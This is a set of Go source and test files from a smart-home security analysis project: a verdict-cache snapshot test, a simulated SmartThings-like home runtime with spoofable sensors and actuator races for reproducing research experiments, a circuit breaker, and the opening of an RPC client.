	if err != nil || added != n {
		t.Fatalf("restore: added=%d err=%v", added, err)
	}
	for i := 0; i < entries; i++ {
		ts, hit := cold.Detect(keyN(byte(i)), func() []detect.Threat {
			t.Errorf("restored cache recomputed verdict %d", i)
			return nil
		})
		if !hit {
			t.Fatalf("verdict %d not a hit after restore", i)
		}
		if got, want := renderVerdict(t, ts), renderVerdict(t, verdictFor(i)); got != want {
			t.Errorf("verdict %d diverged after restore:\ngot  %s\nwant %s", i, got, want)
		}
		if ts[0].String() != verdictFor(i)[0].String() {
			t.Errorf("verdict %d rendering diverged", i)
		}
	}
	if ts, hit := cold.Detect(keyN(200), func() []detect.Threat {
		t.Error("restored cache recomputed the empty verdict")
		return nil
	}); !hit || len(ts) != 0 {
		t.Errorf("empty verdict: hit=%v len=%d, want hit with no threats", hit, len(ts))
	}
	if st := cold.Stats(); st.Misses != 0 {
		t.Errorf("warm-boot misses = %d, want 0", st.Misses)
	}
}

// TestVerdictSnapshotRejectsDamage: typed failures for version skew and
// corruption.
func TestVerdictSnapshotRejectsDamage(t *testing.T) {
	warm := New()
	warm.Detect(keyN(1), func() []detect.Threat { return verdictFor(1) })
	var buf bytes.Buffer
	if _, err := warm.Snapshot(&buf); err != nil {
		t.Fatal(err)
	}
	snap := buf.Bytes()

	bad := append([]byte(nil), snap...)
	bad[11]++ // header version field
	if _, err := New().Restore(bytes.NewReader(bad)); !errors.Is(err, ErrSnapshotVersion) {
		t.Errorf("version mismatch: err = %v, want ErrSnapshotVersion", err)
	}
	bad = append([]byte(nil), snap...)
	bad[len(bad)-40] ^= 0x01 // inside checksum-covered tail
	if _, err := New().Restore(bytes.NewReader(bad)); !errors.Is(err, ErrSnapshotCorrupt) {
		t.Errorf("damage: err = %v, want ErrSnapshotCorrupt", err)
	}
	if _, err := New().Restore(bytes.NewReader(snap[:len(snap)-3])); !errors.Is(err, ErrSnapshotCorrupt) {
		t.Errorf("truncation: err = %v, want ErrSnapshotCorrupt", err)
	}
	// An extraction-cache snapshot is a different section type.
	if _, err := New().Restore(bytes.NewReader([]byte("HGXCSNP\x00garbagegarbage"))); !errors.Is(err, ErrSnapshotCorrupt) {
		t.Errorf("foreign magic: err = %v, want ErrSnapshotCorrupt", err)
	}
}

// TestVerdictSnapshotConcurrent races Snapshot/Restore against live
// Detect traffic (meaningful under -race).
func TestVerdictSnapshotConcurrent(t *testing.T) {
	c := New()
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				n := (g*13 + i) % 32
				c.Detect(keyN(byte(n)), func() []detect.Threat { return verdictFor(n) })
			}
		}(g)
	}
	for g := 0; g < 2; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 10; i++ {
				var buf bytes.Buffer
				if _, err := c.Snapshot(&buf); err != nil {
					t.Errorf("snapshot: %v", err)
					return
				}
				if _, err := c.Restore(bytes.NewReader(buf.Bytes())); err != nil {
					t.Errorf("restore: %v", err)
					return
				}
			}
		}()
	}
	wg.Wait()
	if c.Len() != 32 {
		t.Errorf("cache ended with %d verdicts, want 32", c.Len())
	}
}
