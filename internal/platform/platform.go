// Package platform is an event-driven smart-home runtime modeled after the
// SmartThings cloud + hub: devices with capability-defined attributes, an
// event bus with subscriptions, a virtual-clock scheduler, environment
// dynamics (temperature, illuminance, humidity, power, noise) influenced by
// actuator states, and seeded nondeterminism in event delivery — enough to
// reproduce the paper's exploitation experiments (Sec. VIII-A), including
// the unpredictable final states of actuator races.
package platform

import (
	"fmt"
	"math/rand"
	"sort"

	"homeguard/internal/capability"
	"homeguard/internal/envmodel"
)

// DeviceID identifies a device (the SmartThings 128-bit ID).
type DeviceID string

// Value is a concrete attribute value.
type Value struct {
	Str   string
	Int   int64
	IsInt bool
}

// IntValue makes a numeric value.
func IntValue(v int64) Value { return Value{Int: v, IsInt: true} }

// StrValue makes a string value.
func StrValue(s string) Value { return Value{Str: s} }

func (v Value) String() string {
	if v.IsInt {
		return fmt.Sprintf("%d", v.Int)
	}
	return v.Str
}

// Equal compares two values.
func (v Value) Equal(o Value) bool {
	if v.IsInt != o.IsInt {
		return false
	}
	if v.IsInt {
		return v.Int == o.Int
	}
	return v.Str == o.Str
}

// Device is a simulated physical device.
type Device struct {
	ID           DeviceID
	Name         string
	Capabilities []string
	Type         envmodel.DeviceType
	// WattsOn is the power draw when the device's switch is on.
	WattsOn int64

	attrs map[string]Value
	// busyUntil models the actuator's transition window: a command that
	// arrives while the device is still transitioning may be dropped by
	// the radio (the paper observed on-only/off-only outcomes in races).
	busyUntil int64
}

// Attr reads an attribute value.
func (d *Device) Attr(name string) (Value, bool) {
	v, ok := d.attrs[name]
	return v, ok
}

// SupportsCommand reports whether any of the device's capabilities defines
// the command.
func (d *Device) SupportsCommand(cmd string) bool {
	for _, cn := range d.Capabilities {
		if c, ok := capability.Get(cn); ok && c.Cmd(cmd) != nil {
			return true
		}
	}
	return false
}

// Event is a state-change notification.
type Event struct {
	Source    string // device ID, "location", or "app"
	Attribute string
	Value     Value
	Time      int64 // virtual seconds
}

// Handler receives events.
type Handler func(Event)

type subscription struct {
	source  string
	attr    string
	filter  string // required value ("" = any change)
	handler Handler
	id      int
}

type scheduledTask struct {
	at   int64
	seq  int
	run  func()
	name string
}

// Environment is the measurable home context.
type Environment struct {
	OutdoorTemp int64
	IndoorTemp  int64
	Illuminance int64
	Humidity    int64
	BasePower   int64 // standing load in watts
	Noise       int64
	TimeOfDay   int64 // minutes since midnight
}

// Home is one simulated smart home.
type Home struct {
	devices map[DeviceID]*Device
	order   []DeviceID
	mode    string
	env     Environment
	clock   int64
	rng     *rand.Rand
	subs    []subscription
	nextSub int
	tasks   []scheduledTask
	nextSeq int
	log     []Event
	// Messages records sendSms/sendPush payloads.
	Messages []string

	// TransitionWindow is the busy window (seconds) after a command during
	// which a second command may be dropped; DropProbability controls how
	// often.
	TransitionWindow int64
	DropProbability  float64
}

// NewHome creates a home with the given nondeterminism seed.
func NewHome(seed int64) *Home {
	return &Home{
		devices: map[DeviceID]*Device{},
		mode:    "Home",
		env: Environment{
			OutdoorTemp: 15,
			IndoorTemp:  22,
			Illuminance: 300,
			Humidity:    45,
			BasePower:   120,
			TimeOfDay:   12 * 60,
		},
		rng:              rand.New(rand.NewSource(seed)),
		TransitionWindow: 2,
		DropProbability:  0.5,
	}
}

// Clock returns the current virtual time in seconds.
func (h *Home) Clock() int64 { return h.clock }

// Mode returns the location mode.
func (h *Home) Mode() string { return h.mode }

// Env returns the current environment snapshot.
func (h *Home) Env() Environment { return h.env }

// EventLog returns all fired events.
func (h *Home) EventLog() []Event { return h.log }

// AddDevice registers a device and initialises default attributes from its
// capabilities.
func (h *Home) AddDevice(d *Device) *Device {
	if d.attrs == nil {
		d.attrs = map[string]Value{}
	}
	for _, cn := range d.Capabilities {
		c, ok := capability.Get(cn)
		if !ok {
			continue
		}
		for _, a := range c.Attributes {
			if _, exists := d.attrs[a.Name]; exists {
				continue
			}
			switch a.Kind {
			case capability.Enum:
				if len(a.Values) > 0 {
					d.attrs[a.Name] = StrValue(defaultEnum(a))
				}
			case capability.Number:
				d.attrs[a.Name] = IntValue(a.Min)
			}
		}
	}
	h.devices[d.ID] = d
	h.order = append(h.order, d.ID)
	return d
}

// defaultEnum picks the "inactive" flavour of an enum where recognisable.
func defaultEnum(a capability.Attribute) string {
	prefer := map[string]bool{
		"off": true, "closed": true, "locked": true, "inactive": true,
		"clear": true, "dry": true, "not present": true, "stopped": true,
		"idle": true, "unmuted": true, "disarmed": true,
	}
	for _, v := range a.Values {
		if prefer[v] {
			return v
		}
	}
	return a.Values[0]
}

// Device returns a registered device.
func (h *Home) Device(id DeviceID) (*Device, bool) {
	d, ok := h.devices[id]
	return d, ok
}

// Devices lists devices in registration order.
func (h *Home) Devices() []*Device {
	out := make([]*Device, 0, len(h.order))
	for _, id := range h.order {
		out = append(out, h.devices[id])
	}
	return out
}

// Subscribe registers a handler for events from source/attribute. filter
// restricts to a specific value ("" = any change). Returns a subscription
// id usable with Unsubscribe.
func (h *Home) Subscribe(source, attr, filter string, fn Handler) int {
	h.nextSub++
	h.subs = append(h.subs, subscription{
		source: source, attr: attr, filter: filter, handler: fn, id: h.nextSub,
	})
	return h.nextSub
}

// Unsubscribe removes a subscription by id.
func (h *Home) Unsubscribe(id int) {
	for i := range h.subs {
		if h.subs[i].id == id {
			h.subs = append(h.subs[:i], h.subs[i+1:]...)
			return
		}
	}
}

// UnsubscribeAll removes all subscriptions registered through fnOwner ids.
func (h *Home) UnsubscribeAll(ids []int) {
	for _, id := range ids {
		h.Unsubscribe(id)
	}
}

// Schedule runs fn at clock+delay seconds.
func (h *Home) Schedule(delay int64, name string, fn func()) {
	h.nextSeq++
	h.tasks = append(h.tasks, scheduledTask{
		at: h.clock + delay, seq: h.nextSeq, run: fn, name: name,
	})
}

// fire dispatches an event to matching subscribers in seeded-random order
// (the delivery-order nondeterminism behind actuator races).
func (h *Home) fire(ev Event) {
	ev.Time = h.clock
	h.log = append(h.log, ev)
	var matched []subscription
	for _, s := range h.subs {
		if s.source != ev.Source || s.attr != ev.Attribute {
			continue
		}
		if s.filter != "" && s.filter != ev.Value.String() {
			continue
		}
		matched = append(matched, s)
	}
	h.rng.Shuffle(len(matched), func(i, j int) {
		matched[i], matched[j] = matched[j], matched[i]
	})
	for _, s := range matched {
		s.handler(ev)
	}
}

// Command issues a device command, applying its capability effects and
// firing change events. Commands landing inside a device's transition
// window may be dropped (seeded).
func (h *Home) Command(id DeviceID, cmd string, params ...Value) error {
	d, ok := h.devices[id]
	if !ok {
		return fmt.Errorf("platform: unknown device %q", id)
	}
	ref := h.findCommand(d, cmd)
	if ref == nil {
		return fmt.Errorf("platform: device %q does not support command %q", id, cmd)
	}
	if h.clock < d.busyUntil && h.rng.Float64() < h.DropProbability {
		return nil // radio dropped the command mid-transition
	}
	d.busyUntil = h.clock + h.TransitionWindow
	for _, e := range ref.Command.Effects {
		var nv Value
		if e.FromParam >= 0 {
			if e.FromParam >= len(params) {
				continue
			}
			nv = params[e.FromParam]
		} else {
			nv = StrValue(e.Value)
		}
		h.setAttr(d, e.Attribute, nv)
	}
	return nil
}

func (h *Home) findCommand(d *Device, cmd string) *capability.CommandRef {
	for _, cn := range d.Capabilities {
		if c, ok := capability.Get(cn); ok {
			if k := c.Cmd(cmd); k != nil {
				return &capability.CommandRef{Capability: c, Command: k}
			}
		}
	}
	return nil
}

// setAttr updates an attribute and fires a change event.
func (h *Home) setAttr(d *Device, attr string, v Value) {
	old, had := d.attrs[attr]
	if had && old.Equal(v) {
		return
	}
	d.attrs[attr] = v
	h.fire(Event{Source: string(d.ID), Attribute: attr, Value: v})
}

// SetMode changes the location mode, firing a location event.
func (h *Home) SetMode(mode string) {
	if h.mode == mode {
		return
	}
	h.mode = mode
	h.fire(Event{Source: "location", Attribute: "mode", Value: StrValue(mode)})
}

// AppTouch fires an app-touch event (tapping the SmartApp button).
func (h *Home) AppTouch() {
	h.fire(Event{Source: "app", Attribute: "touch", Value: StrValue("touched")})
}

// InjectSensor overrides a sensor attribute directly (spoofing a reading,
// e.g. the CO2-laser motion attack of Sec. VIII-B).
func (h *Home) InjectSensor(id DeviceID, attr string, v Value) error {
	d, ok := h.devices[id]
	if !ok {
		return fmt.Errorf("platform: unknown device %q", id)
	}
	h.setAttr(d, attr, v)
	return nil
}

// Step advances the virtual clock by seconds, running due scheduled tasks
// and environment dynamics minute by minute.
func (h *Home) Step(seconds int64) {
	target := h.clock + seconds
	for h.clock < target {
		step := int64(60)
		if target-h.clock < step {
			step = target - h.clock
		}
		h.clock += step
		h.env.TimeOfDay = (h.env.TimeOfDay + step/60) % 1440
		h.runDueTasks()
		h.stepEnvironment(step)
	}
}

func (h *Home) runDueTasks() {
	sort.SliceStable(h.tasks, func(i, j int) bool {
		if h.tasks[i].at != h.tasks[j].at {
			return h.tasks[i].at < h.tasks[j].at
		}
		return h.tasks[i].seq < h.tasks[j].seq
	})
	var pending []scheduledTask
	due := make([]scheduledTask, 0)
	for _, t := range h.tasks {
		if t.at <= h.clock {
			due = append(due, t)
		} else {
			pending = append(pending, t)
		}
	}
	h.tasks = pending
	for _, t := range due {
		t.run()
	}
}

// stepEnvironment evolves environment features from actuator states and
// refreshes sensor readings.
func (h *Home) stepEnvironment(seconds int64) {
	minutes := seconds / 60
	if minutes == 0 {
		minutes = 1
	}
	heat, cool := int64(0), int64(0)
	illum := int64(50) // ambient daylight baseline handled below
	power := h.env.BasePower
	humidity := h.env.Humidity
	noise := int64(0)

	if h.env.TimeOfDay >= 7*60 && h.env.TimeOfDay <= 19*60 {
		illum = 250 // daylight through windows
	} else {
		illum = 5
	}

	for _, id := range h.order {
		d := h.devices[id]
		on := false
		if sw, ok := d.attrs["switch"]; ok && sw.Str == "on" {
			on = true
		}
		if on {
			power += d.WattsOn
		}
		switch d.Type {
		case envmodel.Heater:
			if on {
				heat += 2
			}
		case envmodel.AirConditioner:
			if on {
				cool += 2
			}
		case envmodel.Fan:
			if on {
				cool++
				noise += 10
			}
		case envmodel.LightDev:
			if on {
				illum += 200
				if lv, ok := d.attrs["level"]; ok && lv.IsInt {
					illum += lv.Int
				}
			}
		case envmodel.WindowOpener:
			open := on
			if w, ok := d.attrs["windowShade"]; ok && w.Str == "open" {
				open = true
			}
			if open {
				// Window vents toward outdoor temperature.
				if h.env.IndoorTemp > h.env.OutdoorTemp {
					cool++
				} else if h.env.IndoorTemp < h.env.OutdoorTemp {
					heat++
				}
				noise += 5
			}
		case envmodel.Shade:
			if w, ok := d.attrs["windowShade"]; ok && w.Str != "open" {
				illum -= 100
			}
		case envmodel.TV, envmodel.Speaker:
			if on {
				noise += 20
			}
		case envmodel.Humidifier:
			if on {
				humidity += minutes
			}
		case envmodel.Dehumidifier:
			if on {
				humidity -= minutes
			}
		}
	}
	h.env.IndoorTemp += (heat - cool) * minutes
	h.env.IndoorTemp = clamp(h.env.IndoorTemp, -10, 45)
	if illum < 0 {
		illum = 0
	}
	h.env.Illuminance = illum
	h.env.Humidity = clamp(humidity, 0, 100)
	h.env.Noise = noise

	// Sensor devices report environment readings as attribute changes.
	for _, id := range h.order {
		d := h.devices[id]
		for _, cn := range d.Capabilities {
			switch cn {
			case "temperatureMeasurement":
				h.setAttr(d, "temperature", IntValue(h.env.IndoorTemp))
			case "illuminanceMeasurement":
				h.setAttr(d, "illuminance", IntValue(h.env.Illuminance))
			case "relativeHumidityMeasurement":
				h.setAttr(d, "humidity", IntValue(h.env.Humidity))
			case "powerMeter":
				h.setAttr(d, "power", IntValue(power))
			case "energyMeter":
				prev, _ := d.attrs["energy"]
				h.setAttr(d, "energy", IntValue(prev.Int+power*minutes/60))
			}
		}
	}
}

func clamp(v, lo, hi int64) int64 {
	if v < lo {
		return lo
	}
	if v > hi {
		return hi
	}
	return v
}

// SendSms records an outbound message (the messaging sink).
func (h *Home) SendSms(to, body string) {
	h.Messages = append(h.Messages, to+": "+body)
}
