package platform

import (
	"testing"

	"homeguard/internal/envmodel"
)

func switchDevice(id, name string, dt envmodel.DeviceType, watts int64) *Device {
	return &Device{
		ID: DeviceID(id), Name: name,
		Capabilities: []string{"switch"},
		Type:         dt,
		WattsOn:      watts,
	}
}

func TestCommandAppliesEffects(t *testing.T) {
	h := NewHome(1)
	d := h.AddDevice(switchDevice("sw1", "lamp", envmodel.LightDev, 60))
	if v, _ := d.Attr("switch"); v.Str != "off" {
		t.Fatalf("initial switch = %v, want off", v)
	}
	if err := h.Command("sw1", "on"); err != nil {
		t.Fatal(err)
	}
	if v, _ := d.Attr("switch"); v.Str != "on" {
		t.Fatalf("switch = %v after on()", v)
	}
}

func TestUnknownDeviceAndCommand(t *testing.T) {
	h := NewHome(1)
	if err := h.Command("nope", "on"); err == nil {
		t.Error("expected error for unknown device")
	}
	h.AddDevice(switchDevice("sw1", "x", envmodel.Generic, 0))
	if err := h.Command("sw1", "unlock"); err == nil {
		t.Error("expected error for unsupported command")
	}
}

func TestEventsFiredOnChange(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("sw1", "x", envmodel.Generic, 0))
	var got []Event
	h.Subscribe("sw1", "switch", "", func(ev Event) { got = append(got, ev) })
	h.Command("sw1", "on")
	h.Command("sw1", "on") // no change → no event
	h.Step(5)
	h.Command("sw1", "off")
	if len(got) != 2 {
		t.Fatalf("events = %d, want 2 (on, off)", len(got))
	}
	if got[0].Value.Str != "on" || got[1].Value.Str != "off" {
		t.Errorf("events = %v", got)
	}
}

func TestFilteredSubscription(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("sw1", "x", envmodel.Generic, 0))
	onCount := 0
	h.Subscribe("sw1", "switch", "on", func(Event) { onCount++ })
	h.Command("sw1", "on")
	h.Step(5)
	h.Command("sw1", "off")
	if onCount != 1 {
		t.Errorf("filtered handler ran %d times, want 1", onCount)
	}
}

func TestUnsubscribe(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("sw1", "x", envmodel.Generic, 0))
	n := 0
	id := h.Subscribe("sw1", "switch", "", func(Event) { n++ })
	h.Command("sw1", "on")
	h.Unsubscribe(id)
	h.Step(5)
	h.Command("sw1", "off")
	if n != 1 {
		t.Errorf("handler ran %d times after unsubscribe, want 1", n)
	}
}

func TestSchedulerRunsDueTasks(t *testing.T) {
	h := NewHome(1)
	ran := []string{}
	h.Schedule(120, "b", func() { ran = append(ran, "b") })
	h.Schedule(60, "a", func() { ran = append(ran, "a") })
	h.Step(59)
	if len(ran) != 0 {
		t.Fatalf("tasks ran early: %v", ran)
	}
	h.Step(120)
	if len(ran) != 2 || ran[0] != "a" || ran[1] != "b" {
		t.Fatalf("ran = %v, want [a b] in time order", ran)
	}
}

func TestModeChangeEvent(t *testing.T) {
	h := NewHome(1)
	var evs []Event
	h.Subscribe("location", "mode", "", func(ev Event) { evs = append(evs, ev) })
	h.SetMode("Night")
	h.SetMode("Night") // no change
	if len(evs) != 1 || evs[0].Value.Str != "Night" {
		t.Fatalf("mode events = %v", evs)
	}
	if h.Mode() != "Night" {
		t.Errorf("mode = %q", h.Mode())
	}
}

func TestHeaterRaisesTemperature(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("heat1", "heater", envmodel.Heater, 1500))
	before := h.Env().IndoorTemp
	h.Command("heat1", "on")
	h.Step(600) // 10 minutes
	after := h.Env().IndoorTemp
	if after <= before {
		t.Errorf("temperature did not rise: %d -> %d", before, after)
	}
}

func TestWindowCoolsTowardOutdoor(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("win1", "window opener", envmodel.WindowOpener, 5))
	before := h.Env().IndoorTemp // 22, outdoor 15
	h.Command("win1", "on")      // open window
	h.Step(600)
	after := h.Env().IndoorTemp
	if after >= before {
		t.Errorf("open window should cool the room: %d -> %d", before, after)
	}
}

func TestPowerMeterTracksLoad(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("ac1", "AC", envmodel.AirConditioner, 2000))
	meter := h.AddDevice(&Device{
		ID: "meter1", Name: "power meter",
		Capabilities: []string{"powerMeter"},
	})
	h.Step(60)
	base, _ := meter.Attr("power")
	h.Command("ac1", "on")
	h.Step(60)
	loaded, _ := meter.Attr("power")
	if loaded.Int-base.Int < 1900 {
		t.Errorf("power meter: base=%d loaded=%d, want ~2000W delta", base.Int, loaded.Int)
	}
}

func TestTemperatureSensorEventsFire(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(switchDevice("heat1", "heater", envmodel.Heater, 1500))
	h.AddDevice(&Device{ID: "t1", Name: "temp", Capabilities: []string{"temperatureMeasurement"}})
	events := 0
	h.Subscribe("t1", "temperature", "", func(Event) { events++ })
	h.Command("heat1", "on")
	h.Step(300)
	if events == 0 {
		t.Error("temperature sensor should report rising readings")
	}
}

// TestActuatorRaceNondeterminism reproduces the Fig. 3 verification
// experiment: two handlers issue opposite commands on the same switch when
// the TV turns on; across seeds the final state varies — on-only, off-only,
// on-then-off, off-then-on.
func TestActuatorRaceNondeterminism(t *testing.T) {
	outcomes := map[string]bool{}
	for seed := int64(0); seed < 40; seed++ {
		h := NewHome(seed)
		h.AddDevice(switchDevice("tv", "tv", envmodel.TV, 100))
		win := h.AddDevice(switchDevice("win", "window opener", envmodel.WindowOpener, 5))
		// Rule 1: open window when TV turns on. Rule 2: close it.
		h.Subscribe("tv", "switch", "on", func(Event) { h.Command("win", "on") })
		h.Subscribe("tv", "switch", "on", func(Event) { h.Command("win", "off") })
		h.Command("tv", "on")
		v, _ := win.Attr("switch")
		// Count window command events to distinguish sequences.
		seq := ""
		for _, ev := range h.EventLog() {
			if ev.Source == "win" && ev.Attribute == "switch" {
				seq += ev.Value.Str + ";"
			}
		}
		outcomes[seq+"final="+v.Str] = true
	}
	if len(outcomes) < 2 {
		t.Errorf("race should be nondeterministic across seeds, got %v", outcomes)
	}
}

func TestInjectSensorSpoofing(t *testing.T) {
	h := NewHome(1)
	h.AddDevice(&Device{ID: "m1", Name: "motion", Capabilities: []string{"motionSensor"}})
	fired := false
	h.Subscribe("m1", "motion", "active", func(Event) { fired = true })
	if err := h.InjectSensor("m1", "motion", StrValue("active")); err != nil {
		t.Fatal(err)
	}
	if !fired {
		t.Error("spoofed motion should fire the subscription")
	}
}

func TestAppTouch(t *testing.T) {
	h := NewHome(1)
	fired := false
	h.Subscribe("app", "touch", "", func(Event) { fired = true })
	h.AppTouch()
	if !fired {
		t.Error("app touch should fire")
	}
}

func TestMessagesRecorded(t *testing.T) {
	h := NewHome(1)
	h.SendSms("555", "hello")
	if len(h.Messages) != 1 || h.Messages[0] != "555: hello" {
		t.Errorf("messages = %v", h.Messages)
	}
}

func TestDaylightIlluminance(t *testing.T) {
	h := NewHome(1)
	h.Step(60)
	if h.Env().Illuminance < 100 {
		t.Errorf("noon illuminance = %d, want daylight", h.Env().Illuminance)
	}
	// Advance to midnight.
	h.Step(12 * 3600)
	if h.Env().Illuminance > 50 {
		t.Errorf("midnight illuminance = %d, want dark", h.Env().Illuminance)
	}
}

func TestDeviceDefaults(t *testing.T) {
	h := NewHome(1)
	lock := h.AddDevice(&Device{ID: "l1", Name: "lock", Capabilities: []string{"lock"}})
	if v, _ := lock.Attr("lock"); v.Str != "locked" {
		t.Errorf("lock default = %v, want locked", v)
	}
	alarm := h.AddDevice(&Device{ID: "a1", Name: "alarm", Capabilities: []string{"alarm"}})
	if v, _ := alarm.Attr("alarm"); v.Str != "off" {
		t.Errorf("alarm default = %v, want off", v)
	}
}
