package rpc

import (
	"sync"
	"time"
)

// Breaker states.
const (
	BreakerClosed   = "closed"    // normal operation
	BreakerOpen     = "open"      // shedding: requests fail fast
	BreakerHalfOpen = "half-open" // cooldown elapsed: one probe in flight
)

// BreakerOptions tune a circuit breaker.
type BreakerOptions struct {
	// Threshold is the number of consecutive qualifying failures that
	// opens the breaker (default 5).
	Threshold int
	// Cooldown is how long an open breaker sheds before admitting a
	// half-open probe (default 2s). It is also the retry hint returned
	// to shed clients.
	Cooldown time.Duration
	// Now overrides the clock for tests.
	Now func() time.Time
}

// Breaker is a consecutive-failure circuit breaker guarding one
// pipeline stage. The service keeps one per stage (extraction,
// detection) so a wedged extractor sheds installs while reconfigures —
// which skip extraction — keep flowing, and vice versa.
//
// Classification is the caller's job: only failures that indicate the
// stage itself is unhealthy (timeouts, panics, internal errors) should
// be recorded as Failure; client-caused errors (unknown home, a Groovy
// source that doesn't parse) are Success — the stage did its work.
type Breaker struct {
	mu        sync.Mutex
	threshold int
	cooldown  time.Duration
	now       func() time.Time

	state    string
	failures int       // consecutive qualifying failures while closed
	openedAt time.Time // when the breaker last opened
	probing  bool      // a half-open probe is in flight
}

// NewBreaker returns a closed breaker.
func NewBreaker(opts BreakerOptions) *Breaker {
	if opts.Threshold <= 0 {
		opts.Threshold = 5
	}
	if opts.Cooldown <= 0 {
		opts.Cooldown = 2 * time.Second
	}
	if opts.Now == nil {
		opts.Now = time.Now
	}
	return &Breaker{
		threshold: opts.Threshold,
		cooldown:  opts.Cooldown,
		now:       opts.Now,
		state:     BreakerClosed,
	}
}

// Allow reports whether a request may proceed. When it returns false
// the request must be shed with UNAVAILABLE and retryAfter as the
// client's retry hint. An open breaker whose cooldown has elapsed
// admits exactly one probe (half-open); further requests are shed
// until the probe reports.
func (b *Breaker) Allow() (ok bool, retryAfter time.Duration) {
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case BreakerClosed:
		return true, 0
	case BreakerOpen:
		if wait := b.openedAt.Add(b.cooldown).Sub(b.now()); wait > 0 {
			return false, wait
		}
		b.state = BreakerHalfOpen
		b.probing = true
		return true, 0
	default: // half-open
		if b.probing {
			return false, b.cooldown
		}
		b.probing = true
		return true, 0
	}
}

// Success records a healthy completion: the breaker closes and the
// consecutive-failure count resets.
func (b *Breaker) Success() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.state = BreakerClosed
	b.failures = 0
	b.probing = false
}

// Failure records a qualifying failure. A failed half-open probe
// reopens immediately; in the closed state the breaker opens after
// Threshold consecutive failures.
func (b *Breaker) Failure() {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.state == BreakerHalfOpen {
		b.state = BreakerOpen
		b.openedAt = b.now()
		b.probing = false
		return
	}
	b.failures++
	if b.state == BreakerClosed && b.failures >= b.threshold {
		b.state = BreakerOpen
		b.openedAt = b.now()
	}
}

// State returns the breaker's current state name. An open breaker
// whose cooldown has already elapsed still reports open until the next
// Allow transitions it.
func (b *Breaker) State() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.state
}
