package rpc

import (
	"testing"
	"time"
)

// fakeClock is an injectable clock for breaker tests.
type fakeClock struct{ t time.Time }

func (c *fakeClock) now() time.Time          { return c.t }
func (c *fakeClock) advance(d time.Duration) { c.t = c.t.Add(d) }
func newFakeClock() *fakeClock               { return &fakeClock{t: time.Unix(1000, 0)} }

func newTestBreaker(threshold int, cooldown time.Duration) (*Breaker, *fakeClock) {
	clk := newFakeClock()
	return NewBreaker(BreakerOptions{Threshold: threshold, Cooldown: cooldown, Now: clk.now}), clk
}

func TestBreakerOpensAfterConsecutiveFailures(t *testing.T) {
	b, _ := newTestBreaker(3, time.Second)
	for i := 0; i < 2; i++ {
		if ok, _ := b.Allow(); !ok {
			t.Fatalf("closed breaker denied request %d", i)
		}
		b.Failure()
	}
	if b.State() != BreakerClosed {
		t.Fatalf("state after 2/3 failures = %s, want closed", b.State())
	}
	b.Failure() // third consecutive failure trips it
	if b.State() != BreakerOpen {
		t.Fatalf("state after 3 failures = %s, want open", b.State())
	}
	ok, retry := b.Allow()
	if ok {
		t.Error("open breaker admitted a request")
	}
	if retry <= 0 || retry > time.Second {
		t.Errorf("retry hint = %v, want (0, 1s]", retry)
	}
}

func TestBreakerSuccessResetsCount(t *testing.T) {
	b, _ := newTestBreaker(3, time.Second)
	b.Failure()
	b.Failure()
	b.Success() // interleaved success: not consecutive anymore
	b.Failure()
	b.Failure()
	if b.State() != BreakerClosed {
		t.Errorf("state = %s, want closed (failures were not consecutive)", b.State())
	}
}

func TestBreakerHalfOpenProbe(t *testing.T) {
	b, clk := newTestBreaker(1, time.Second)
	b.Failure()
	if b.State() != BreakerOpen {
		t.Fatalf("state = %s, want open", b.State())
	}
	// Before the cooldown: shed.
	clk.advance(500 * time.Millisecond)
	if ok, _ := b.Allow(); ok {
		t.Fatal("breaker admitted a request mid-cooldown")
	}
	// After the cooldown: exactly one probe.
	clk.advance(600 * time.Millisecond)
	if ok, _ := b.Allow(); !ok {
		t.Fatal("breaker denied the half-open probe")
	}
	if b.State() != BreakerHalfOpen {
		t.Fatalf("state = %s, want half-open", b.State())
	}
	if ok, _ := b.Allow(); ok {
		t.Fatal("breaker admitted a second concurrent probe")
	}
	// Probe succeeds: closed, serving again.
	b.Success()
	if b.State() != BreakerClosed {
		t.Fatalf("state after probe success = %s, want closed", b.State())
	}
	if ok, _ := b.Allow(); !ok {
		t.Fatal("recovered breaker denied a request")
	}
}

func TestBreakerFailedProbeReopens(t *testing.T) {
	b, clk := newTestBreaker(1, time.Second)
	b.Failure()
	clk.advance(2 * time.Second)
	if ok, _ := b.Allow(); !ok {
		t.Fatal("breaker denied the half-open probe")
	}
	b.Failure() // probe failed: reopen immediately
	if b.State() != BreakerOpen {
		t.Fatalf("state after failed probe = %s, want open", b.State())
	}
	// The cooldown restarts from the failed probe.
	clk.advance(500 * time.Millisecond)
	if ok, _ := b.Allow(); ok {
		t.Fatal("breaker admitted a request right after a failed probe")
	}
	clk.advance(600 * time.Millisecond)
	if ok, _ := b.Allow(); !ok {
		t.Fatal("breaker denied the second probe after a full cooldown")
	}
	b.Success()
	if b.State() != BreakerClosed {
		t.Fatalf("state = %s, want closed", b.State())
	}
}
