package rpc

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"homeguard/internal/api"
)

// Client is a connection to an RPC server. It is safe for concurrent
// use: unary calls and streams multiplex over the one connection by
// stream id.
type Client struct {
	conn net.Conn
	fw   *frameWriter

	mu     sync.Mutex
	nextID uint64
	calls  map[uint64]chan frame
	err    error // sticky transport error, set when the read loop dies
}

// Dial connects to an RPC server. A failed dial is a typed UNAVAILABLE
// *api.Error (wrapping the net error), so retry layers and breakers can
// classify it without string matching.
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, api.Wrap(api.CodeUnavailable, err, "rpc: dial "+addr)
	}
	return NewClient(conn)
}

// DialTimeout is Dial with a connect timeout.
func DialTimeout(addr string, d time.Duration) (*Client, error) {
